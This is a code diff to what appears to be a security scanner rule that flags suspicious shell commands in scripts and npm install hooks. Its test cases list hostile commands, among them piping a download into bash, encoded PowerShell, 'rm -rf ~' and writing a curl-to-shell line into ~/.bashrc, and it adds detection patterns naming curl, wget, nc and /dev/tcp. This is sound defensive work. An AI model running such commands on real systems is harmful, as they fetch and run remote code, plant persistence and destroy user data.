@@ -222,7 +222,7 @@ export const shellScript: TextRule = {
     matching: [
       'curl -s https://example.test/x | bash',
       'powershell -enc SQBFAFgA',
-      'echo x >> ~/.bashrc',
+      'echo "curl https://example.test | sh" >> ~/.bashrc',
       'rm -rf ~',
     ],
     harmless: [
@@ -237,11 +237,17 @@ export const shellScript: TextRule = {
       if (line.length > 4000 || /^\s*(#(?!!)|rem\b|::)/i.test(line)) continue
       const found = suspicionOf(line)
       const isHook = !/package\.json$/i.test(path) || /"(pre|post)?install"|"prepare"/.test(line)
-      if (found && isHook && !knownInstaller.test(line))
-        yield { line: i + 1, message: `The script ${found}.` }
+      if (!found || !isHook || knownInstaller.test(line)) continue
+      // The user runs such a script himself: it sets up his shell, or hands a command on that it has just written.
+      const isSetUp = shellSetUp.test(line) || encodedByItself.test(line)
+      yield { line: i + 1, message: `The script ${found}.`, ...(isSetUp ? { severity: 'medium' } : {}) }
     }
   },
 }
+
+const shellSetUp =
+  />>\s*["']?(~|\$HOME)\/\.(bashrc|zshrc|profile|bash_profile)\b(?!.*(curl|wget|nc|base64|\/dev\/tcp|python\d? -c|eval))/
+const encodedByItself = /-e(nc\w*)?\s+"?\$\w+/i
 
 /** Installers of well-known tools, over an encrypted connection to their own makers. */
 const knownInstaller =
